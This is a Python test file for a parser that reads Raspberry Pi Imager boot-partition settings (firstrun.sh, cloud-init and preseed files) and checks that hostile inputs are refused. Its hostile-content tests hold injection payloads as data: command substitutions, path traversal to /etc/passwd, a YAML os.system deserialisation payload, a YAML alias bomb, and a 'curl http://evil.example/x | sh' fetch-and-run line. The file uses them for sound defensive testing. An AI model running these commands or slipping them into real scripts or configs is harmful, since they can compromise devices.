"""The boot-partition settings parser on Raspberry Pi Imager's real file formats, and on hostile ones.

The fixtures are written as Imager's generator writes them (tests/unit/imager.py follows its C++
and QML line for line); nothing here, or in the parser, ever runs them.
"""

import os

import pytest

from appliance.provision.bootfiles import MAX_BYTES, read_boot
from appliance.provision.firstrun import plain_words
from appliance.provision.settings import Form, RefusedError
from tests.unit import imager

KEY1 = imager.ssh_key("ssh-ed25519", "alice@laptop", 1)
KEY2 = imager.ssh_key("ecdsa-sha2-nistp256", "alice@phone", 2)
SETTINGS = {
    "hostname": "kitchen-phone",
    "wifiSSID": "Home Net",
    "wifiPassword": "correct horse battery",
    "recommendedWifiCountry": "GB",
    "sshEnabled": True,
    "sshPublicKey": KEY1 + "\n" + KEY2 + "\n",
    "sshUserName": "alice",
    "sshUserPassword": "$y$j9T$0123456789abcdef$hashhashhashhash",
    "timezone": "Europe/London",
    "keyboard": "gb",
}
PSK = imager.pbkdf2("correct horse battery", b"Home Net")


@pytest.fixture
def zoneinfo(tmp_path):
    return imager.zoneinfo(tmp_path / "zoneinfo")


def firstrun(tmp_path, settings=None, generator=imager.firstrun_v2, **kwargs):
    data = generator({**SETTINGS, **(settings or {})})
    return imager.boot_partition(tmp_path / "boot", {"firstrun.sh": data}, firstrun=True, **kwargs)


def cloud(tmp_path, settings=None, user_data=imager.cloud_user_data, network=imager.cloud_network_config):
    s = {**SETTINGS, **(settings or {})}
    files = {"user-data": user_data(s), "network-config": network(s) if s.get("wifiSSID") else b""}
    return imager.boot_partition(tmp_path / "boot", files, cloud=True)


def assert_everything(settings, form, psk=PSK, passphrase=None):
    assert settings.form is form
    assert settings.hostname == "kitchen-phone"
    assert settings.wifi is not None
    assert settings.wifi.ssid == b"Home Net"
    assert (settings.wifi.psk, settings.wifi.passphrase) == (psk, passphrase)
    assert settings.country == "GB"
    assert settings.ssh_enabled
    assert settings.ssh_keys == (KEY1, KEY2)
    assert settings.timezone == "Europe/London"


# --- Imager's formats ---------------------------------------------------------------------------


def test_firstrun_of_imager_2(tmp_path, zoneinfo):
    report = read_boot(firstrun(tmp_path), zoneinfo)
    assert report.ok, report.problems
    assert_everything(report.settings, Form.FIRSTRUN)
    assert report.settings.files == ("firstrun.sh",)
    assert report.settings.keyboard == "gb"
    assert report.settings.user == "alice"
    assert not report.settings.wifi.hidden
    assert not report.settings.ssh_password_auth


def test_firstrun_of_imager_2_hidden_network_and_a_quote_in_the_ssid(tmp_path, zoneinfo):
    boot = firstrun(tmp_path, {"wifiSSID": 'Bob\'s "Wi-Fi" $(x)', "wifiHidden": True})
    assert "'Bob'\"'\"'s" in (boot / "firstrun.sh").read_text()  # shellQuote's escape, as Imager writes it
    report = read_boot(boot, zoneinfo)
    assert report.ok, report.problems
    wifi = report.settings.wifi
    assert wifi.ssid == b'Bob\'s "Wi-Fi" $(x)'  # kept as literal data
    assert wifi.hidden
    assert wifi.psk == imager.pbkdf2("correct horse battery", wifi.ssid)


def test_firstrun_of_imager_2_ssid_that_is_not_utf8_comes_from_the_wpa_supplicant_heredoc(tmp_path, zoneinfo):
    octets = b"caf\xe9-\xff"
    boot = firstrun(tmp_path, {"wifiSSIDOctets": octets})
    text = (boot / "firstrun.sh").read_text()
    assert "&& false; then" in text  # Imager skips imager_custom set_wlan for these octets
    assert "ssid=hex:" + octets.hex() in text
    report = read_boot(boot, zoneinfo)
    assert report.ok, report.problems
    assert report.settings.wifi.ssid == octets
    assert report.settings.wifi.psk == imager.pbkdf2("correct horse battery", octets)
    assert report.settings.wifi.ssid_text == "hex:" + octets.hex()


def test_firstrun_open_network(tmp_path, zoneinfo):
    report = read_boot(firstrun(tmp_path, {"wifiPassword": ""}), zoneinfo)
    assert report.ok, report.problems
    assert report.settings.wifi.open


def test_firstrun_of_imager_1_8(tmp_path, zoneinfo):
    report = read_boot(firstrun(tmp_path, generator=imager.firstrun_v18), zoneinfo)
    assert report.ok, report.problems
    assert_everything(report.settings, Form.FIRSTRUN)
    assert report.settings.user == "alice"


def test_firstrun_of_imager_1_8_fallback_branch_alone(tmp_path, zoneinfo):
    """Only the else-branch lines (echo >/etc/hostname, the heredocs, <(printf ...)) are read."""
    text = imager.firstrun_v18(SETTINGS).decode()
    fallback = "\n".join(line for line in text.splitlines() if "imager_custom" not in line)
    boot = imager.boot_partition(tmp_path / "boot", {"firstrun.sh": fallback.encode()}, firstrun=True)
    report = read_boot(boot, zoneinfo)
    assert report.ok, report.problems
    assert_everything(report.settings, Form.FIRSTRUN)
    assert report.settings.keyboard == "gb"


def test_firstrun_of_imager_1_6_plain_passphrase(tmp_path, zoneinfo):
    boot = firstrun(tmp_path, {"sshPublicKey": KEY1}, generator=imager.firstrun_v16)
    report = read_boot(boot, zoneinfo)
    assert report.ok, report.problems
    settings = report.settings
    assert settings.hostname == "kitchen-phone"
    assert (settings.wifi.ssid, settings.wifi.psk, settings.wifi.passphrase) == (
        b"Home Net",
        None,
        "correct horse battery",
    )
    assert settings.country == "GB"
    assert settings.ssh_keys == (KEY1,)
    assert settings.timezone == "Europe/London"
    assert settings.keyboard == "gb"


def test_cloud_init_of_imager_2(tmp_path, zoneinfo):
    boot = cloud(tmp_path)
    report = read_boot(boot, zoneinfo)
    assert report.ok, report.problems
    assert_everything(report.settings, Form.CLOUD_INIT)
    assert set(report.settings.files) == {"user-data", "network-config", "meta-data"}
    assert report.settings.user == "alice"
    assert report.settings.keyboard == "gb"
    assert not report.settings.ssh_password_auth


def test_cloud_init_ssid_octets_escaped_by_imager(tmp_path, zoneinfo):
    boot = cloud(tmp_path, {"wifiSSID": 'Café "5G"', "wifiHidden": True})
    assert 'Caf\\xc3\\xa9 \\"5G\\"' in (boot / "network-config").read_text()
    report = read_boot(boot, zoneinfo)
    assert report.ok, report.problems
    assert report.settings.wifi.ssid == 'Café "5G"'.encode()
    assert report.settings.wifi.hidden


def test_cloud_init_hand_written_utf8_ssid(tmp_path, zoneinfo):
    network = 'network:\n  version: 2\n  wifis:\n    wlan0:\n      access-points:\n        "Café":\n          password: "12345678"\n'
    boot = imager.boot_partition(tmp_path / "boot", {"network-config": network.encode()}, cloud=True)
    report = read_boot(boot, zoneinfo)
    assert report.ok, report.problems
    assert report.settings.wifi.ssid == "Café".encode()
    assert report.settings.wifi.passphrase == "12345678"


def test_cloud_init_open_network_and_password_login_asked(tmp_path, zoneinfo):
    boot = cloud(tmp_path, {"wifiPassword": "", "sshPasswordAuth": True, "sshPublicKey": ""})
    report = read_boot(boot, zoneinfo)
    assert report.ok, report.problems
    assert report.settings.wifi.open
    assert report.settings.ssh_enabled
    assert report.settings.ssh_password_auth
    assert report.settings.ssh_keys == ()


def test_cloud_init_of_imager_1_8(tmp_path, zoneinfo):
    boot = cloud(tmp_path, user_data=imager.cloud_user_data_v18, network=imager.cloud_network_config_v18)
    report = read_boot(boot, zoneinfo)
    assert report.ok, report.problems
    settings = report.settings
    assert settings.hostname == "kitchen-phone"
    assert settings.wifi.psk == PSK
    assert settings.ssh_keys == (KEY1, KEY2)
    assert settings.timezone == "Europe/London"
    assert settings.keyboard == "gb"
    assert settings.country is None  # 1.8 put it on the command line only when Wi-Fi was set: not here


def test_country_from_the_kernel_command_line(tmp_path, zoneinfo):
    data = imager.cloud_user_data({"hostname": "desk", "recommendedWifiCountry": "DE"}, ssh_enabled=False)
    boot = imager.boot_partition(tmp_path / "boot", {"user-data": data}, cloud=True, regdom="DE")
    report = read_boot(boot, zoneinfo)
    assert report.ok, report.problems
    assert (report.settings.hostname, report.settings.country, report.settings.wifi) == ("desk", "DE", None)


def test_rpi_preseed_of_imager_2_0_11(tmp_path, zoneinfo):
    boot = imager.boot_partition(
        tmp_path / "boot", {"rpi-preseed.toml": imager.preseed({**SETTINGS, "wifiPassword": PSK})}
    )
    report = read_boot(boot, zoneinfo)
    assert report.ok, report.problems
    assert_everything(report.settings, Form.PRESEED)


def test_fat_names_in_capitals(tmp_path, zoneinfo):
    boot = firstrun(tmp_path)
    (boot / "firstrun.sh").rename(boot / "FIRSTRUN.SH")
    report = read_boot(boot, zoneinfo)
    assert report.ok, report.problems
    assert report.settings.files == ("FIRSTRUN.SH",)
    assert report.settings.hostname == "kitchen-phone"


def test_nothing_there(tmp_path, zoneinfo):
    boot = imager.boot_partition(tmp_path / "boot", {})
    report = read_boot(boot, zoneinfo)
    assert report.ok
    assert report.settings.form is Form.NONE
    assert report.settings.empty


def test_a_second_form_is_noted_not_merged(tmp_path, zoneinfo):
    boot = firstrun(tmp_path)
    (boot / "user-data").write_text("#cloud-config\nhostname: other\n")
    report = read_boot(boot, zoneinfo)
    assert report.ok
    assert report.settings.hostname == "kitchen-phone"
    assert report.notes and "user-data ignored" in report.notes[0]


# --- hostile content ----------------------------------------------------------------------------


def problems(report):
    return {(p.file, p.field): p.reason for p in report.problems}


def test_command_substitution_in_the_hostname_is_refused_and_the_rest_kept(tmp_path, zoneinfo):
    marker = tmp_path / "ran"
    boot = firstrun(tmp_path, {"hostname": f"$(touch {marker})"})
    report = read_boot(boot, zoneinfo)
    found = problems(report)
    assert "command substitution" in found["firstrun.sh", "hostname"]
    assert report.settings.hostname is None
    assert report.settings.wifi.psk == PSK  # the rest is used
    assert report.settings.timezone == "Europe/London"
    assert not marker.exists()


@pytest.mark.parametrize(
    ("line", "reason"),
    [
        ("echo `reboot` >/etc/hostname", "command substitution"),
        ("echo phone; reboot >/etc/hostname", "shell syntax"),
        ('echo "$HOST" >/etc/hostname', "expanded"),
        ("echo 'unterminated >/etc/hostname", "not closed"),
        ("echo two words >/etc/hostname", "one word"),
        ("echo under_score >/etc/hostname", "RFC 1123"),
        ("echo -phone >/etc/hostname", "RFC 1123"),
        ("echo " + "a" * 64 + " >/etc/hostname", "RFC 1123"),
        ("echo 10.0.0.1 >/etc/hostname", "address"),
    ],
)
def test_hostnames_that_are_not_plain_data_or_not_rfc_1123(tmp_path, zoneinfo, line, reason):
    boot = imager.boot_partition(
        tmp_path / "boot", {"firstrun.sh": f"#!/bin/sh\n{line}\n".encode()}, firstrun=True
    )
    report = read_boot(boot, zoneinfo)
    assert reason in problems(report)["firstrun.sh", "hostname"]


def test_plain_words():
    assert plain_words("'it'\"'\"'s' \"two words\" plain") == ["it's", "two words", "plain"]
    assert plain_words("'$(reboot) `x` ; | > *'") == ["$(reboot) `x` ; | > *"]
    for text in ("$(reboot)", "a|b", "x>y", '"$x"', "a\\ b", "*", "~root"):
        with pytest.raises(RefusedError):
            plain_words(text)


def test_a_bad_wifi_password_does_not_stop_the_hostname(tmp_path, zoneinfo):
    report = read_boot(firstrun(tmp_path, {"wifiPassword": "short"}), zoneinfo)  # 5: Imager passes it through
    assert "8 to 63" in problems(report)["firstrun.sh", "wifi.password"]
    assert report.settings.wifi is None
    assert report.settings.hostname == "kitchen-phone"
    assert report.settings.ssh_keys == (KEY1, KEY2)
    assert "short" not in str(report.problems)  # a secret is never repeated


def test_ssid_too_long_and_country_unknown(tmp_path, zoneinfo):
    report = read_boot(firstrun(tmp_path, {"wifiSSID": "x" * 33, "recommendedWifiCountry": "XX"}), zoneinfo)
    found = problems(report)
    assert "1 to 32 bytes" in found["firstrun.sh", "wifi.ssid"]
    assert "XX is not an ISO 3166" in found["firstrun.sh", "wifi.country"]
    assert report.settings.hostname == "kitchen-phone"


@pytest.mark.parametrize(
    "zone", ["Mars/Olympus", "../../../etc/passwd", "Europe/London; reboot", "/etc/passwd"]
)
def test_time_zones_that_do_not_exist(tmp_path, zoneinfo, zone):
    report = read_boot(cloud(tmp_path, {"timezone": zone}), zoneinfo)
    assert ("user-data", "timezone") in problems(report)
    assert report.settings.timezone is None
    assert report.settings.hostname == "kitchen-phone"


def test_ssh_keys_that_are_not_openssh_public_keys(tmp_path, zoneinfo):
    bad = [
        'command="/bin/sh" ' + KEY1,  # options: not a plain key
        "ssh-ed25519 not-base64!",
        "ssh-rsa " + KEY1.split()[1],  # the body is an ed25519 key
        "-----BEGIN OPENSSH PRIVATE KEY-----",
        "ssh-dss AAAAB3NzaC1kc3MAAACBAP",
    ]
    report = read_boot(firstrun(tmp_path, {"sshPublicKey": "\n".join([KEY1, *bad])}), zoneinfo)
    found = problems(report)
    assert {field for _, field in found} >= {f"ssh.keys[{n}]" for n in range(2, 7)}
    assert report.settings.ssh_keys == (KEY1,)


def test_huge_file_is_refused_unread(tmp_path, zoneinfo):
    boot = firstrun(tmp_path)
    with (boot / "firstrun.sh").open("ab") as handle:
        handle.write(b"#" * MAX_BYTES)
    report = read_boot(boot, zoneinfo)
    assert "more than the" in problems(report)["firstrun.sh", "file"]
    assert report.settings.hostname is None


def test_bad_utf8_refuses_its_value_not_the_file(tmp_path, zoneinfo):
    data = imager.firstrun_v2(SETTINGS).replace(b"set_hostname kitchen-phone", b"set_hostname kitchen-\xff")
    boot = imager.boot_partition(tmp_path / "boot", {"firstrun.sh": data}, firstrun=True)
    report = read_boot(boot, zoneinfo)
    assert "UTF-8" in problems(report)["firstrun.sh", "hostname"]
    assert report.settings.wifi.psk == PSK


def test_bad_utf8_in_yaml_refuses_that_file(tmp_path, zoneinfo):
    boot = cloud(tmp_path)
    (boot / "user-data").write_bytes(b"#cloud-config\nhostname: kitchen-\xff\n")
    report = read_boot(boot, zoneinfo)
    assert "not UTF-8" in problems(report)["user-data", "file"]
    assert report.settings.wifi.psk == PSK  # network-config still read


def test_symlink_is_not_followed(tmp_path, zoneinfo):
    secret = tmp_path / "secret"
    secret.write_text("#!/bin/sh\necho stolen >/etc/hostname\n")
    boot = imager.boot_partition(tmp_path / "boot", {}, firstrun=True)
    (boot / "firstrun.sh").symlink_to(secret)
    report = read_boot(boot, zoneinfo)
    assert "symbolic link" in problems(report)["firstrun.sh", "file"]
    assert report.settings.hostname is None


def test_fifo_is_refused_without_blocking(tmp_path, zoneinfo):
    boot = imager.boot_partition(tmp_path / "boot", {}, firstrun=True)
    os.mkfifo(boot / "firstrun.sh")
    report = read_boot(boot, zoneinfo)
    assert "not a regular file" in problems(report)["firstrun.sh", "file"]


def test_unknown_lines_and_other_heredocs_are_ignored(tmp_path, zoneinfo):
    script = (
        "#!/bin/sh\n"
        "curl http://evil.example/x | sh\n"
        "cat >/etc/motd <<'EOF'\n"
        "/usr/lib/raspberrypi-sys-mods/imager_custom set_hostname evil\n"
        "echo evil >/etc/hostname\n"
        "EOF\n"
        "/usr/lib/raspberrypi-sys-mods/imager_custom set_hostname desk\n"
        "/usr/lib/raspberrypi-sys-mods/imager_custom do_something '$(x)'\n"
    )
    boot = imager.boot_partition(tmp_path / "boot", {"firstrun.sh": script.encode()}, firstrun=True)
    report = read_boot(boot, zoneinfo)
    assert report.ok, report.problems
    assert report.settings.hostname == "desk"


def test_an_unclosed_heredoc_is_refused(tmp_path, zoneinfo):
    script = "#!/bin/sh\ncat >/etc/wpa_supplicant/wpa_supplicant.conf <<'WPAEOF'\nnetwork={\n"
    boot = imager.boot_partition(tmp_path / "boot", {"firstrun.sh": script.encode()}, firstrun=True)
    assert "not closed" in problems(read_boot(boot, zoneinfo))["firstrun.sh", "file"]


def test_expanded_heredoc_with_a_dollar_is_refused(tmp_path, zoneinfo):
    boot = firstrun(tmp_path, {"wifiPassword": "pa$(reboot)ss"}, generator=imager.firstrun_v16)
    report = read_boot(boot, zoneinfo)
    assert "expanded" in problems(report)["firstrun.sh", "wifi"]
    assert report.settings.wifi is None
    assert report.settings.hostname == "kitchen-phone"


def test_user_data_that_is_a_script_is_never_read(tmp_path, zoneinfo):
    boot = imager.boot_partition(tmp_path / "boot", {"user-data": b"#!/bin/sh\nreboot\n"}, cloud=True)
    assert "never run" in problems(read_boot(boot, zoneinfo))["user-data", "file"]


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("#cloud-config\na: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]\n", "not accepted"),
        ("#cloud-config\nhostname: !!python/object/apply:os.system ['reboot']\n", "python/object"),
        ("#cloud-config\nhostname: [unclosed\n", "line"),
        ("#cloud-config\n" + "[" * 5000, ""),
        ("#cloud-config\n- a list\n", "mapping"),
    ],
)
def test_hostile_yaml(tmp_path, zoneinfo, text, reason):
    boot = imager.boot_partition(tmp_path / "boot", {"user-data": text.encode()}, cloud=True)
    report = read_boot(boot, zoneinfo)
    assert reason in problems(report)["user-data", "file"]


def test_yaml_values_of_the_wrong_type(tmp_path, zoneinfo):
    user_data = "#cloud-config\nhostname: [a, b]\ntimezone: 12\nssh_pwauth: maybe\n"
    network = "network:\n  version: 2\n  wifis:\n    wlan0:\n      access-points:\n        1234:\n          password: x\n"
    files = {"user-data": user_data.encode(), "network-config": network.encode()}
    report = read_boot(imager.boot_partition(tmp_path / "boot", files, cloud=True), zoneinfo)
    found = problems(report)
    assert "string" in found["user-data", "hostname"]
    assert "string" in found["user-data", "timezone"]
    assert "true or false" in found["user-data", "ssh_pwauth"]
    assert "quoted string" in found["network-config", "wifi.ssid"]


def test_control_characters_in_a_value(tmp_path, zoneinfo):
    boot = firstrun(tmp_path, {"wifiSSID": "bell\x07", "timezone": "Europe/London\x1b[2J"})
    found = problems(read_boot(boot, zoneinfo))
    assert "control character" in found["firstrun.sh", "wifi.ssid"]
    assert ("firstrun.sh", "timezone") in found


def test_a_refused_key_line_then_another_keeps_the_refusal_and_the_rest(tmp_path, zoneinfo):
    # Found by the fuzz test: the second enable_ssh line extended the refused marker and the whole
    # read failed with an AttributeError, so none of the partition's settings were used.
    lines = "#!/bin/sh\n/usr/lib/raspberrypi-sys-mods/imager_custom enable_ssh -k }\n"
    lines += f"/usr/lib/raspberrypi-sys-mods/imager_custom enable_ssh -k '{KEY1}'\n"
    lines += "echo kitchen-phone >/etc/hostname\n"
    boot = imager.boot_partition(tmp_path / "boot", {"firstrun.sh": lines.encode()}, firstrun=True)
    report = read_boot(boot, zoneinfo)
    assert "shell syntax" in problems(report)["firstrun.sh", "ssh.keys"]
    assert report.settings.ssh_keys == ()
    assert report.settings.hostname == "kitchen-phone"
